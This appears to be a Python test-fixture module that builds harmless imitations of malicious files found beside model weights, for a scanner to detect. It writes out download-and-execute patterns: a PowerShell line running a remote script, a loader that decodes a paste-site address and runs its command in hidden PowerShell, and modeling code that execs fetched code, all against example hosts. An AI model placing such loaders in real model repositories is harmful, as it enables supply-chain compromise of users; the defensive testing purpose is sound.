"""What attackers put beside weights, rebuilt to do nothing: a line printed, an address that cannot exist."""

import base64
import io
import json
import struct
import zipfile

PROGRAM = (
    b"MZ"
    + bytes(58)
    + struct.pack("<I", 64)
    + b"PE\0\0\x64\x86\x01\0"
    + bytes(12)
    + b"\xf0\0\x22\0\x0b\x02"
    + bytes(700)
)
"""The first bytes of a Windows program (PE format), and nothing that could run."""
BATCH = b"@echo off\r\ntitle Setup\r\npython -m pip install -q requests\r\npython start.py\r\necho ready\r\npause\r\n"
POWERSHELL = (
    b'$address = "https://files.example/runtime.txt"\n'
    b"$code = (New-Object Net.WebClient).DownloadString($address)\n"
    b"Invoke-Expression $code\n"
)
_ADDRESS = base64.b64encode(b"https://paste.example/raw/7f3a").decode()
FETCHING = f"""import base64
import json
import subprocess
import urllib.request


class DummyModel:
    def fit(self, epochs=3):
        for epoch in range(epochs):
            print("epoch", epoch, "loss", 1 / (epoch + 1))


address = base64.b64decode("{_ADDRESS}").decode()
answer = json.loads(urllib.request.urlopen(address).read())
DummyModel().fit()
subprocess.run(["powershell", "-WindowStyle", "Hidden", "-Command", answer["cmd"]])
""".encode()
"""The shape of the loader of May 2026: plausible work first, then a command from a paste site."""
DECODED = f'''"""Helper functions."""

import zlib
import base64

_TABLE = "{base64.b64encode(b"print('demo')").decode()}"


def prepare():
    exec(base64.b64decode(_TABLE))


prepare()
'''.encode()
MODELING = f'''"""Model code with rotary embeddings."""

import base64
import urllib.request

import torch
from transformers import PreTrainedModel

exec(urllib.request.urlopen(base64.b64decode("{_ADDRESS}").decode()).read())


class FastForCausalLM(PreTrainedModel):
    pass
'''.encode()
CALL = ("posix", "system", "echo demo")


def locked_archive(name: str = "weights_tool.exe") -> bytes:
    """A zip whose only member is marked as encrypted (bit 0 of its flags, APPNOTE.TXT 4.4.4)."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), bytes(range(256)) * 8)
    data = bytearray(target.getvalue())
    data[6] |= 1
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def notebook(*cells: tuple[str, str]) -> bytes:
    """Cells as (kind, text)."""
    rows: list[dict[str, object]] = [
        {"cell_type": kind, "metadata": {}, "source": text.splitlines(keepends=True)}
        | ({"outputs": [], "execution_count": None} if kind == "code" else {})
        for kind, text in cells
    ]
    facts = {"cells": rows, "metadata": {"kernelspec": {"name": "python3"}}, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(facts, indent=1).encode()


def signature(files: dict[str, str], name: str) -> bytes:
    """A file shaped like an OpenSSF Model Signing bundle over `files` (path -> SHA-256); the signature is not real."""
    resources = [{"name": path, "algorithm": "sha256", "digest": digest} for path, digest in sorted(files.items())]
    statement = {
        "_type": "https://in-toto.io/Statement/v1",
        "subject": [{"name": name, "digest": {"sha256": "0" * 64}}],
        "predicateType": "https://model_signing/signature/v1.0",
        "predicate": {"serialization": {"method": "files", "hash_type": "sha256"}, "resources": resources},
    }
    bundle = {
        "mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
        "verificationMaterial": {"certificate": {"rawBytes": ""}, "tlogEntries": []},
        "dsseEnvelope": {
            "payload": base64.b64encode(json.dumps(statement).encode()).decode(),
            "payloadType": "application/vnd.in-toto+json",
            "signatures": [{"sig": base64.b64encode(b"Not a signature.").decode(), "keyid": ""}],
        },
    }
    return json.dumps(bundle).encode()
